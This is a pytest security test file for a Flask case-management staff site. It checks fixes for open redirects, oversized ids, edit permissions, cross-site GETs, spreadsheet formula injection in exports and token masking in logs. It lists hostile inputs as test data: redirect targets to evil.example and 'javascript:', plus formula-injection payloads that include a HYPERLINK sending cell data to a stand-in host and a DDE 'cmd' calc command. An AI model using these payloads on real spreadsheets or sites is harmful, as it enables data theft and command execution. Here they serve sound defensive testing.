"""The staff side against hostile input (security review of December 2026, findings 5, 6, 8,
10, 11 and the note on GETs with side effects), on a real database, through the real forms.

- 6: the action forms' ``next`` never sends the browser to another site;
- 8: huge or unknown ids in filters, page numbers and selects are never a 500;
- 5: every technician reads every case and adds notes, but only its technician or a
  coordinator changes it;
- 16: a link on another site cannot clear the "new documents" notice;
- 10: ``flask cases export`` hands no spreadsheet a formula;
- 11: no link tokens or searches in the access log, no SQL parameters in errors.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func
from sqlalchemy import insert
from sqlalchemy import select
from sqlalchemy.exc import IntegrityError
from werkzeug.datastructures import FileStorage
from werkzeug.serving import make_server

from support.days import MADRID
from support.factories import PASSWORD
from support.factories import make_booking
from support.factories import make_staff
from support.factories import make_world
from support.htmlutil import csrf_token
from support.htmlutil import error_messages
from support.htmlutil import form_values
from support.htmlutil import soup
from support.htmlutil import summary_links
from support.journey import book_by_phone
from umic import clock
from umic.casefiles import documents
from umic.casefiles import tracker
from umic.casefiles.documents import new_citizen_uploads
from umic.casefiles.service import create_case
from umic.extensions import db
from umic.models import Booking
from umic.models import CaseDocument
from umic.models import CaseEvent
from umic.models import CaseFile
from umic.models import Role
from umic.web.logs import mask

HUGE = ["99999999999999999999", "9223372036854775807", "2147483648", "-5", "1e3", "١٢"]
OFF_SITE = [
    "https://evil.example/phish",
    "//evil.example/x",
    "/\\evil.example",
    "javascript:alert(1)",
    "\thttps://evil.example/x",
    "/\t/evil.example/x",
    "\t//evil.example/x",
    "http:evil.example",
]


def sign_in(client, username: str) -> None:
    page = client.get("/entra").get_data(as_text=True)
    response = client.post(
        "/entra",
        data={"csrf_token": csrf_token(page), "username": username, "password": PASSWORD},
    )
    assert response.status_code == 303


def at(minutes: int):
    moment = (clock.now() + timedelta(minutes=minutes)).replace(second=0, microsecond=0)
    return moment - timedelta(minutes=moment.minute % 5)


def post_from_agenda(client, url: str, data: dict):
    page = client.get("/espai/").get_data(as_text=True)
    return client.post(url, data={"csrf_token": csrf_token(page), **data})


def new_case(world, technician, **values) -> CaseFile:
    case = create_case(
        {
            "municipality_id": world.town.id,
            "interested_name": "Trinidad Garcia",
            "interested_email": "trinidad@example.net",
            "assigned_to_id": technician.id if technician else None,
            **values,
        },
        actor=None,
        now=clock.now(),
    )
    db.session.commit()
    return case


def form_data(page: str) -> dict:
    """Every field of the case form as the browser would submit it unchanged."""
    return form_values(page, "#case-form")


def location_is_on_this_site(location: str) -> bool:
    """What a browser would do with the Location: stay on this site (tabs and newlines are
    dropped by browsers, a backslash is a slash)."""
    cleaned = re.sub(r"[\t\n\r]", "", location).replace("\\", "/")
    return cleaned.startswith("/") and not cleaned.startswith("//")


# --- Finding 6: open redirect in the staff action forms -------------------------------------------


@pytest.mark.parametrize("target", OFF_SITE)
def test_the_action_forms_never_send_the_browser_to_another_site(client, target):
    world = make_world(technicians=1)
    technician = world.technicians[0]
    started, _ = make_booking(world.town, world.service, technician, at(-10))
    later, _ = make_booking(world.town, world.service, technician, at(3 * 24 * 60))
    sign_in(client, technician.username)

    marked = post_from_agenda(
        client, f"/espai/cites/{started.id}/estat", {"status": "attended", "next": target}
    )
    page = client.get(f"/espai/cites/{later.id}/anulla").get_data(as_text=True)
    cancelled = client.post(
        f"/espai/cites/{later.id}/anulla",
        data={"csrf_token": csrf_token(page), "reason": "audit", "next": target},
    )
    for response in (marked, cancelled):
        assert response.status_code == 303
        assert location_is_on_this_site(response.headers["Location"]), response.headers
        assert "evil" not in response.headers["Location"]
    assert marked.headers["Location"].endswith("/espai/")


def test_a_path_on_this_site_is_still_followed(client):
    world = make_world(technicians=1)
    started, _ = make_booking(world.town, world.service, world.technicians[0], at(-10))
    sign_in(client, world.technicians[0].username)
    response = post_from_agenda(
        client, f"/espai/cites/{started.id}/estat", {"status": "attended", "next": "/espai/?x=1"}
    )
    assert response.headers["Location"] == "/espai/?x=1"


# --- Finding 8: huge integers and unknown ids -----------------------------------------------------


@pytest.mark.parametrize("value", HUGE)
def test_huge_or_odd_numbers_in_filters_and_pages_are_ignored(client, value):
    world = make_world(technicians=1)
    booking, _ = make_booking(
        world.town, world.service, world.technicians[0], at(60), citizen_name="Visible"
    )
    make_staff("OPSSCOORD", role=Role.COORDINATOR)
    sign_in(client, "OPSSCOORD")

    # The agenda shows one day: the booking's (tomorrow, at 23:30 on New Year's Eve).
    day = booking.start_utc.astimezone(MADRID).date().isoformat()
    agenda = client.get("/espai/", query_string={"tecnic": value, "dia": day})
    assert agenda.status_code == 200
    assert "Visible" in agenda.get_data(as_text=True), "a bad filter shows everyone's week"
    assert client.get("/admin/correu/", query_string={"pagina": value}).status_code == 200
    assert client.get("/espai/expedients/", query_string={"pagina": value}).status_code == 200
    assert client.get("/espai/expedients/", query_string={"assignat": value}).status_code == 200
    assert client.get("/espai/expedients/", query_string={"municipi": value}).status_code == 200


@pytest.mark.parametrize("value", [*HUGE, "0", "abc"])
def test_reassigning_to_an_impossible_technician_is_refused_not_a_500(client, value):
    world = make_world(technicians=2)
    first, _second = world.technicians
    make_staff("OPSSCOORD", role=Role.COORDINATOR)
    booking, _ = make_booking(world.town, world.service, first, at(24 * 60))
    sign_in(client, "OPSSCOORD")
    response = post_from_agenda(
        client, f"/espai/cites/{booking.id}/reassigna", {"technician": value}
    )
    assert response.status_code == 303
    page = soup(client.get(response.headers["Location"]).get_data(as_text=True)).get_text()
    assert "Trieu a qui voleu reassignar la cita." in page
    db.session.expire_all()
    assert db.session.get(Booking, booking.id).technician_id == first.id


def test_reassigning_to_an_inactive_technician_is_refused(client):
    world = make_world(technicians=2)
    first, second = world.technicians
    second.active = False
    db.session.commit()
    make_staff("OPSSCOORD", role=Role.COORDINATOR)
    booking, _ = make_booking(world.town, world.service, first, at(24 * 60))
    sign_in(client, "OPSSCOORD")
    post_from_agenda(client, f"/espai/cites/{booking.id}/reassigna", {"technician": second.id})
    db.session.expire_all()
    assert db.session.get(Booking, booking.id).technician_id == first.id


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("assigned_to_id", "9999", "Trieu una persona en actiu de la llista o «Sense assignar»"),
        ("assigned_to_id", "-5", "Trieu una persona en actiu de la llista o «Sense assignar»"),
        (
            "assigned_to_id",
            "99999999999999999999",
            "Trieu una persona en actiu de la llista o «Sense assignar»",
        ),
        (
            "assigned_to_id",
            "inactive",
            "Trieu una persona en actiu de la llista o «Sense assignar»",
        ),
        ("municipality_id", "999999", "Trieu un municipi de la llista"),
        ("municipality_id", "9223372036854775807", "Trieu un municipi de la llista"),
        ("municipality_id", "x", "Trieu un municipi de la llista"),
    ],
)
def test_an_unknown_id_in_the_case_form_is_an_error_beside_the_field(client, field, value, message):
    world = make_world(technicians=2)
    technician, other = world.technicians
    case = new_case(world, technician)
    if value == "inactive":
        other.active = False
        db.session.commit()
        value = str(other.id)
    sign_in(client, technician.username)
    data = form_data(client.get(f"/espai/expedients/{case.id}").get_data(as_text=True))
    data.update({field: value, "company": "El que he escrit", "internal_status": "Revisat"})
    response = client.post(f"/espai/expedients/{case.id}", data=data)
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert soup(html).title.get_text().startswith("Error: ")
    assert message in error_messages(html)
    assert (f"#{field}", message) in summary_links(html)
    page = soup(html)
    assert page.select_one("#company")["value"] == "El que he escrit", "the typing is kept"
    assert page.select_one("#internal_status")["value"] == "Revisat"
    db.session.expire_all()
    saved = db.session.get(CaseFile, case.id)
    assert (saved.version, saved.assigned_to_id, saved.company) == (case.version, technician.id, "")


def test_a_new_case_with_an_unknown_town_is_an_error_not_a_500(client):
    world = make_world(technicians=1)
    sign_in(client, world.technicians[0].username)
    data = form_data(client.get("/espai/expedients/nou").get_data(as_text=True))
    data.update(interested_name="Persona Nova", municipality_id="99999999999999999999")
    response = client.post("/espai/expedients/nou", data=data)
    assert response.status_code == 200
    assert "Trieu un municipi de la llista" in error_messages(response.get_data(as_text=True))
    assert db.session.scalar(select(func.count()).select_from(CaseFile)) == 0


def test_a_case_assigned_to_someone_no_longer_active_keeps_its_technician_on_save(client):
    world = make_world(technicians=2)
    gone, _ = world.technicians
    case = new_case(world, gone)
    gone.active = False
    db.session.commit()
    make_staff("OPSSCOORD", role=Role.COORDINATOR)
    sign_in(client, "OPSSCOORD")
    data = form_data(client.get(f"/espai/expedients/{case.id}").get_data(as_text=True))
    data["company"] = "Empresa"
    assert client.post(f"/espai/expedients/{case.id}", data=data).status_code == 303
    db.session.expire_all()
    assert db.session.get(CaseFile, case.id).assigned_to_id == gone.id


@pytest.mark.parametrize("value", ["99999999999999999999", "-5", "9999"])
def test_a_phone_booking_for_an_impossible_technician_is_an_error(client, value):
    world = make_world(technicians=1)
    sign_in(client, world.technicians[0].username)
    page = client.get(f"/espai/cites/nova?municipi={world.town.id}").get_data(as_text=True)
    day = re.findall(r'name="dia" value="([^"]+)"', page)[0]
    page = client.get(f"/espai/cites/nova?municipi={world.town.id}&dia={day}")
    slot = re.findall(r'name="slot" value="([^"]+)"', page.get_data(as_text=True))[0]
    response = book_by_phone(
        client,
        world.town.id,
        slot,
        name="Persona Que Truca",
        phone="612 000 111",
        technician=value,
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Trieu una persona de la llista o «Qualsevol persona lliure»" in error_messages(html)
    assert soup(html).select_one("#name")["value"] == "Persona Que Truca"
    assert db.session.scalar(select(func.count()).select_from(Booking)) == 0


# --- Finding 5: who may change a case -------------------------------------------------------------


def test_another_technician_reads_and_notes_a_case_but_cannot_change_it(client):
    world = make_world(technicians=2)
    owner, other = world.technicians
    case = new_case(world, owner)
    sign_in(client, other.username)

    page = client.get(f"/espai/expedients/{case.id}")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "Trinidad Garcia" in html
    assert soup(html).select_one("#case-form") is None, "no form to save"
    fields = soup(html).select_one("fieldset[disabled]")
    assert fields is not None and fields.select_one("#interested_email") is not None
    assert f"Només {owner.name}, que el té assignat, o la coordinació" in soup(html).get_text()

    note = client.post(
        f"/espai/expedients/{case.id}/nota",
        data={"csrf_token": csrf_token(html), "note": "He trucat a la persona"},
    )
    assert note.status_code == 303

    attacks = [
        {"assigned_to_id": str(other.id)},
        {"interested_email": "attacker@example.com"},
        {"interested_phone": "600 000 000"},
        {"status": "resolt", "outcome": "1"},
        {"amount_recovered": "1.000,00"},
    ]
    for change in attacks:
        data = {
            "csrf_token": csrf_token(html),
            "version": str(case.version + 1),
            "case_type": case.case_type,
            "channel": case.channel,
            "municipality_id": str(world.town.id),
            "interested_name": case.interested_name,
            "status": case.status,
            "assigned_to_id": str(owner.id),
            **change,
        }
        assert client.post(f"/espai/expedients/{case.id}", data=data).status_code == 403

    db.session.expire_all()
    saved = db.session.get(CaseFile, case.id)
    assert (saved.assigned_to_id, saved.interested_email, saved.interested_phone) == (
        owner.id,
        "trinidad@example.net",
        "",
    )
    kinds = db.session.scalars(select(CaseEvent.kind).where(CaseEvent.case_id == case.id)).all()
    assert sorted(kinds) == ["created", "note"]


def test_the_technician_and_a_coordinator_may_change_it_and_anyone_an_unassigned_one(client, app):
    world = make_world(technicians=2)
    owner, other = world.technicians
    make_staff("OPSSCOORD", role=Role.COORDINATOR)
    case = new_case(world, owner)
    queue = new_case(world, None)
    for username, target, company in [
        (owner.username, case, "Del tècnic"),
        ("OPSSCOORD", case, "De la coordinació"),
        (other.username, queue, "De qui el pren"),
    ]:
        browser = app.test_client()
        sign_in(browser, username)
        page = browser.get(f"/espai/expedients/{target.id}").get_data(as_text=True)
        data = form_data(page)
        data["company"] = company
        assert browser.post(f"/espai/expedients/{target.id}", data=data).status_code == 303
        db.session.expire_all()
        assert db.session.get(CaseFile, target.id).company == company


def test_an_anonymised_case_is_read_only_even_for_a_coordinator(client):
    """Its period is over (or the person asked for erasure): no edit, no note may write
    personal data back, and "Documentació requerida" cannot e-mail an empty address."""
    from umic.privacy.anonymise import anonymise_cases

    world = make_world()
    make_staff("OPSSCOORD", role=Role.COORDINATOR)
    case = new_case(world, world.technicians[0])
    anonymise_cases([case.id], clock.now())
    db.session.commit()
    sign_in(client, "OPSSCOORD")
    html = client.get(f"/espai/expedients/{case.id}").get_data(as_text=True)
    page = soup(html)
    assert page.select_one("#case-form") is None and page.select_one("fieldset[disabled]")
    assert "Aquest expedient es va anonimitzar el" in page.get_text()
    assert not page.select(f'form[action="/espai/expedients/{case.id}/nota"]')
    data = {
        "csrf_token": csrf_token(html),
        "version": str(case.version),
        "case_type": case.case_type,
        "channel": case.channel,
        "municipality_id": str(world.town.id),
        "interested_name": "Trinidad Garcia",
        "interested_email": "trinidad@example.net",
        "status": "documentacio_requerida",
    }
    assert client.post(f"/espai/expedients/{case.id}", data=data).status_code == 403
    note = {"csrf_token": csrf_token(html), "note": "Trinidad Garcia ha trucat"}
    assert client.post(f"/espai/expedients/{case.id}/nota", data=note).status_code == 403
    db.session.expire_all()
    saved = db.session.get(CaseFile, case.id)
    assert (saved.interested_name, saved.interested_email) == ("", "")


# --- Note 16: GETs with side effects ----------------------------------------------------------


PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


@pytest.fixture
def app_config(tmp_path) -> dict:
    return {"UPLOAD_FOLDER": str(tmp_path / "fitxers")}


def citizen_upload(case: CaseFile) -> CaseDocument:
    upload = FileStorage(io.BytesIO(PDF), filename="factura.pdf", content_type="application/pdf")
    return documents.add_document(
        case,
        upload,
        category="factura",
        source=documents.CITIZEN,
        uploaded_by=None,
        now=clock.now(),
    )


def test_a_link_from_another_site_does_not_clear_the_new_documents_notice(client):
    world = make_world(technicians=1)
    technician = world.technicians[0]
    case = new_case(world, technician)
    document = citizen_upload(case)
    sign_in(client, technician.username)

    cross_site = [
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"},
        {"Sec-Fetch-Site": "same-site"},
        {"Referer": "https://evil.example/page"},  # a browser too old for Sec-Fetch-Site
    ]
    for headers in cross_site:
        assert client.get(f"/espai/expedients/{case.id}", headers=headers).status_code == 200
        assert (
            client.get(f"/espai/expedients/{case.id}/documents", headers=headers).status_code == 200
        )
        download = client.get(f"/espai/documents/{document.id}", headers=headers)
        download.get_data()
        download.close()
        db.session.expire_all()
        assert [d.id for d in new_citizen_uploads(technician)] == [document.id], headers
    agenda = client.get("/espai/", headers={"Sec-Fetch-Site": "none"}).get_data(as_text=True)
    assert "1 document nou de la ciutadania" in agenda

    # The technician's own click (same-origin) is seeing it.
    page = client.get(f"/espai/expedients/{case.id}", headers={"Sec-Fetch-Site": "same-origin"})
    assert page.status_code == 200
    db.session.expire_all()
    assert new_citizen_uploads(technician) == []


def test_typing_the_address_or_an_old_browser_from_our_pages_still_marks_seen(client):
    world = make_world(technicians=1)
    technician = world.technicians[0]
    typed, linked = new_case(world, technician), new_case(world, technician)
    citizen_upload(typed)
    citizen_upload(linked)
    sign_in(client, technician.username)
    client.get(f"/espai/expedients/{typed.id}/documents", headers={"Sec-Fetch-Site": "none"})
    client.get(f"/espai/expedients/{linked.id}", headers={"Referer": "http://localhost/espai/"})
    db.session.expire_all()
    assert new_citizen_uploads(technician) == []


# --- Finding 10: the tracker export -----------------------------------------------------------


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "=1+2",
    "+34 612 345 678",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    '＝HYPERLINK("http://evil.example/")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_cli_export_writes_no_formula_and_reads_back_as_typed(runner, tmp_path, payload):
    world = make_world(technicians=1)
    case = new_case(world, world.technicians[0], status_detail=payload)
    case.interested_name = payload  # as the tracker import or an old row could hold it
    db.session.commit()
    target = tmp_path / "export.tsv"
    result = runner.invoke(args=["cases", "export", "--output", str(target)])
    assert result.exit_code == 0, result.output
    with open(target, encoding="utf-8", newline="") as handle:
        text = handle.read()
    # A spreadsheet starts a new row at a CR or LF outside quotes: none may start a formula.
    outside_quotes = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert not re.search(r"[\r\n][=+\-@＝＋－＠]", outside_quotes)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="\t"))
    (row,) = [r for r in rows[1:] if r]
    for column in ("Nom interessat", "Detall estat"):
        cell = row[tracker.HEADER.index(column)]
        assert cell == "'" + payload
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


# --- Finding 11: logs -------------------------------------------------------------------------


TOKEN = "wJH2dlK-voXUihX_aD1ZsELnPLNsizh-"


def test_the_mask_covers_every_link_and_the_search():
    lines = {
        f'"GET /cita/{TOKEN} HTTP/1.1" 200': '"GET /cita/*** HTTP/1.1" 200',
        f"GET /cita/{TOKEN}/anulla": "GET /cita/***/anulla",
        f"POST /documents/{TOKEN}?x=1": "POST /documents/***?x=1",
        f"/enquesta/{TOKEN}/gracies": "/enquesta/***/gracies",
        f"/calendari/{TOKEN}.ics": "/calendari/***.ics",
        f"\x1b[33mGET /cita/{TOKEN} HTTP/1.1\x1b[0m": "\x1b[33mGET /cita/*** HTTP/1.1\x1b[0m",
        "GET /espai/expedients/?q=Raúl+Sánchez&estat=pendent": (
            "GET /espai/expedients/?q=***&estat=pendent"
        ),
        "GET /entra?next=/espai/expedients/%3Fq%3DRa%C3%BAl": (
            "GET /entra?next=/espai/expedients/%3Fq%3D***"
        ),
        "GET /espai/documents/12": "GET /espai/documents/12",
        "GET /espai/expedients/3/documents": "GET /espai/expedients/3/documents",
    }
    for line, expected in lines.items():
        assert mask(line) == expected


class NoRedirects(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def test_the_dev_servers_access_log_carries_no_token_and_no_search(app, caplog):
    """A real request to Werkzeug's own server; its real logger, as ``make run`` prints it."""
    world = make_world(technicians=1)
    sign_in_client = app.test_client()
    sign_in(sign_in_client, world.technicians[0].username)
    server = make_server("127.0.0.1", 0, app)
    base = f"http://127.0.0.1:{server.server_port}"
    # One request each (a redirect is not followed: the server answers one request per call).
    opener = urllib.request.build_opener(NoRedirects)
    paths = [
        f"/cita/{TOKEN}",
        f"/documents/{TOKEN}",
        f"/enquesta/{TOKEN}",
        f"/calendari/{TOKEN}.ics",
        "/espai/expedients/?q=Trinidad+Garcia",
    ]
    with caplog.at_level(logging.INFO, logger="werkzeug"):
        for path in paths:
            thread = threading.Thread(target=server.handle_request)
            thread.start()
            try:
                opener.open(base + path, timeout=10).close()
            except urllib.error.HTTPError as error:
                error.close()  # 404s and the sign-in redirect are logged all the same
            thread.join(10)
    server.server_close()
    logged = [r for r in caplog.records if r.name == "werkzeug"]
    text = "\n".join(r.getMessage() for r in logged)
    assert len(logged) >= len(paths)
    assert TOKEN not in text and "Trinidad" not in text
    assert "/cita/*** " in text and "/calendari/***.ics" in text and "?q=***" in text


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.mark.slow
def test_gunicorns_access_log_carries_no_token_no_search_and_no_referer_token(
    sqlite_template, tmp_path
):
    """Production's server, its default access-log format, the path, query and Referer."""
    database = tmp_path / "prod.db"
    database.write_bytes(sqlite_template.read_bytes())
    access_log = tmp_path / "access.log"
    port = _free_port()
    env = {
        **os.environ,
        "UMIC_SECRET_KEY": "production-secret-for-the-test-at-least-32-bytes",
        "UMIC_SQLALCHEMY_DATABASE_URI": f"sqlite:///{database}",
    }
    env.pop("FLASK_DEBUG", None)
    gunicorn = Path(sys.executable).with_name("gunicorn")
    command = [str(gunicorn), "--workers", "1", "--bind", f"127.0.0.1:{port}"]
    command += ["--access-logfile", str(access_log), "wsgi:app"]
    root = Path(__file__).resolve().parents[1]
    process = subprocess.Popen(
        command, cwd=root, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    base = f"http://127.0.0.1:{port}"
    opener = urllib.request.build_opener(NoRedirects)
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                opener.open(f"{base}/salut", timeout=2).close()
                break
            except OSError:
                if time.monotonic() > deadline or process.poll() is not None:
                    pytest.fail("gunicorn did not start")
                time.sleep(0.2)
        for path in (f"/cita/{TOKEN}", f"/enquesta/{TOKEN}", "/espai/expedients/?q=Trinidad"):
            request = urllib.request.Request(
                base + path, headers={"Referer": f"{base}/cita/{TOKEN}/planifica"}
            )
            try:
                opener.open(request, timeout=5).close()
            except urllib.error.HTTPError as error:
                error.close()
    finally:
        process.terminate()
        process.wait(timeout=10)
        process.stdout.close()
    text = access_log.read_text(encoding="utf-8")
    assert text.count("\n") >= 4, text
    assert TOKEN not in text and "Trinidad" not in text
    assert "/cita/*** " in text and "?q=***" in text


def test_a_database_error_shows_no_parameters(app):
    world = make_world(technicians=1)
    secret = "persona-secreta@example.net"
    with pytest.raises(IntegrityError) as error:
        db.session.execute(
            insert(CaseFile).values(
                year=2026,
                sequence=1,
                number="2026/0000001",
                interested_name="Nom Secret",
                interested_email=secret,
                municipality_id=world.town.id,
                assigned_to_id=999_999,
            )
        )
        db.session.flush()
    db.session.rollback()
    assert secret not in str(error.value) and "Nom Secret" not in str(error.value)
    assert "hide_parameters" in str(error.value)
